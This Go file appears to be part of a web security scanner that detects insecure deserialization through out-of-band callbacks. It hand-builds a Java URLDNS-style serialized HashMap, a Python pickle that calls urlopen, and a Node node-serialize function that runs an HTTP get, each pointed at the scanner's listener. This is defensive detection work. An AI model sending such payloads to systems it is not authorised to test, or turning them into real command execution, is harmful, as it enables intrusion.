package deserialization

import (
	"encoding/base64"
	"encoding/binary"
	"encoding/json"
	"strings"

	"merlon/internal/engine/dast/activescan"
	"merlon/internal/engine/dast/message"
)

// This file proves that objects are read by objects that make their reader look up a
// name, or ask for an address, of a listener of ours, and do nothing else.

// callingObject writes an object of the language that calls; empty: none is known that does, or
// it needs a name that leads to the listener, and there is none.
func callingObject(language string, b activescan.OASTPayload) string {
	switch language {
	case "Java":
		return javaObject(b.Host)
	case "Python":
		// protocol 0: a function, its arguments, and its call
		return "curllib.request\nurlopen\n(V" + b.URLWithHostName() + "\nNI3\ntR."
	case script:
		function := "_$$ND_FUNC$$_function(){require('http').get('" + b.URLWithHostName() +
			"').on('error',function(){})}()"
		text, err := json.Marshal(map[string]string{"a": function})
		if err != nil {
			return ""
		}
		return string(text)
	}
	return ""
}

// probeOAST sends an object that calls, written as the value is.
func probeOAST(p *activescan.Probe, language string) (bool, error) {
	if p.OAST == nil {
		return false, nil
	}
	address, host := p.OAST.Address(p.OAST.NewToken())
	if callingObject(language, activescan.OASTPayload{URL: address, Host: host}) == "" {
		return false, nil
	}
	return p.SendOAST(func(bait func() activescan.OASTPayload) (*message.Request, []activescan.ExpectedInteraction) {
		b := bait()
		value := encodeAlike(p.Point.Value, callingObject(language, b))
		return p.Request.With(p.Point, value),
			[]activescan.ExpectedInteraction{{OASTPayload: b, Rule: called, Point: &p.Point, Payload: value,
				Proof: "The value is an object of " + language + " that makes whoever reads it call a listener; " +
					"it was " +
					"called."}}
	})
}

// encodeAlike writes an object in base 64 where the value is, in the same alphabet.
func encodeAlike(value, object string) string {
	if decodeBase64(value) == "" {
		return object
	}
	e := base64.StdEncoding
	if strings.ContainsAny(value, "-_") {
		e = base64.URLEncoding
	}
	if !strings.HasSuffix(value, "=") && len(value)%4 != 0 {
		e = e.WithPadding(base64.NoPadding)
	}
	return e.EncodeToString([]byte(object))
}

// Of the format that Java writes objects in (Java Object Serialization Specification,
// section 6.4) as much as a table needs whose key is an address.
const (
	tcNull, tcReference, tcClass, tcObject, tcString, tcBlock, tcEnd = 0x70, 0x71, 0x72, 0x73, 0x74, 0x77, 0x78
	// flags of a class: serializable, with a method that writes
	written = 3
)

// Things of a stream have numbers in their order: the class of the table, the table, the class
// of its key, the type of the key's fields, the key, and the first of them.
const (
	fieldType = 0x7e0003
	authority = 0x7e0005
)

// A stream is what is written of objects.
type stream []byte

// writeUTF writes a text with its length.
func (s *stream) writeUTF(text string) {
	*s = binary.BigEndian.AppendUint16(*s, uint16(len(text)))
	*s = append(*s, text...)
}

// writeClass begins an object with the description of its class: its identifier, and its
// fields, each a letter for its type and its name.
func (s *stream) writeClass(name string, id uint64, fields ...string) {
	*s = append(*s, tcObject, tcClass)
	s.writeUTF(name)
	*s = binary.BigEndian.AppendUint64(*s, id)
	*s = append(*s, written)
	*s = binary.BigEndian.AppendUint16(*s, uint16(len(fields)))
	named := false
	for _, f := range fields {
		*s = append(*s, f[0])
		s.writeUTF(f[1:])
		switch {
		case f[0] != 'L':
		case named:
			s.writeReference(fieldType)
		default:
			named = true
			s.writeText("Ljava/lang/String;")
		}
	}
	*s = append(*s, tcEnd, tcNull) // no annotations, no class above that is written
}

func (s *stream) writeText(text string) {
	*s = append(*s, tcString)
	s.writeUTF(text)
}

// writeReference refers to what was written already.
func (s *stream) writeReference(number uint32) {
	*s = append(*s, tcReference)
	*s = binary.BigEndian.AppendUint32(*s, number)
}

// javaObject is a HashMap whose only key is a java.net.URL that has no hash yet: reading
// the table hashes it, for which Java looks up the host. Nothing else happens. Without a
// host it is empty.
func javaObject(host string) string {
	if host == "" || len(host) > 255 {
		return ""
	}
	s := stream{0xac, 0xed, 0, 5}
	s.writeClass("java.util.HashMap", 0x0507dac1c31660d1, "FloadFactor", "Ithreshold")
	s = append(s, 0x3f, 0x40, 0, 0, 0, 0, 0, 12) // 0.75, and 12
	s = append(s, tcBlock, 8, 0, 0, 0, 16, 0, 0, 0, 1)
	s.writeClass("java.net.URL", 0x962537361afce472, "IhashCode", "Iport", "Lauthority", "Lfile", "Lhost", "Lprotocol",
		"Lref")
	s = append(s, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff) // no hash, no port
	s.writeText(host)
	s.writeText("")
	s.writeReference(authority)
	s.writeText("http")
	s = append(s, tcNull, tcEnd)
	s.writeText("v")
	return string(append(s, tcEnd))
}
